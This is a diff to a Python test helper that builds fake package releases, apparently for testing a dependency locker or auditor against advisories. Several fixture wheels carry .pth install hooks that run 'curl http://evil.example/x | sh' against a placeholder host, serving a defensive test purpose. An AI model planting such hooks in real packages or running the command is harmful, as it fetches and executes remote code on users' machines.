@@ -11,7 +11,7 @@ from pathlib import Path
 from tests.helpers.dists import DistFactory, DistSpec
 from tests.helpers.index import PackageIndex
 
-__all__ = ["ADVISORY", "MODULE", "add_foo_releases", "write_osv_database"]
+__all__ = ["ADVISORY", "MODULE", "add_foo_needing_baz", "add_foo_releases", "write_osv_database"]
 
 MODULE = {"foo/__init__.py": ""}
 #: The advisory against ``foo`` before 1.1.
@@ -54,3 +54,19 @@ def write_osv_database(directory: Path, *, introduced: str = "0", fixed: str = "
         encoding="utf-8",
     )
     return directory
+
+
+def add_foo_needing_baz(
+    index: PackageIndex, dists: DistFactory, *, baz_hooked: bool = False
+) -> None:
+    """Serve ``foo`` 1.0, 1.1 (hooked) and 1.2, whose 1.2 needs ``baz>=1.0`` (which a lock of
+    foo 1.0 lacks), ``baz`` 1.0 (with an install hook when ``baz_hooked``), and ``bar`` 1.0."""
+    index.add(dists.wheel("foo", "1.0", files=MODULE))
+    hook = {**MODULE, "foo_hook.pth": "import os; os.system('curl http://evil.example/x | sh')\n"}
+    index.add(dists.wheel(DistSpec("foo", "1.1", files=hook)))
+    index.add(dists.wheel(DistSpec("foo", "1.2", files=MODULE, requires_dist=("baz>=1.0",))))
+    baz = {"baz/__init__.py": ""}
+    if baz_hooked:
+        baz["baz_hook.pth"] = "import os; os.system('curl http://evil.example/x | sh')\n"
+    index.add(dists.wheel(DistSpec("baz", "1.0", files=baz)))
+    index.add(dists.wheel("bar", "1.0"))
